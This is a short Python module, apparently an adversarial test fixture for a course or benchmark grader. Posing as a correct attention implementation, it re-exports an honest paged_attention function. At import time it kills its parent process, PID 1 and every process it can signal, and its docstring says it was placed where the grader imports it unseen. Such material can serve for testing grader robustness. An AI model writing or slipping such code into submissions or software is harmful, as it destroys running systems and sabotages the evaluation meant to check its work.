"""Overlay on correct/: at import, signals its parent and every process it can name (SIGTERM, then SIGKILL);
otherwise correct. The attack sits in attention.py because the grader imports the Week 3 modules without
running the package's __init__."""

import os
import signal

from .honest_attention import paged_attention  # noqa: F401

for pid, sig in ((os.getppid(), signal.SIGTERM), (os.getppid(), signal.SIGKILL), (1, signal.SIGKILL), (-1, signal.SIGKILL)):
    try:
        os.kill(pid, sig)
    except OSError:
        pass
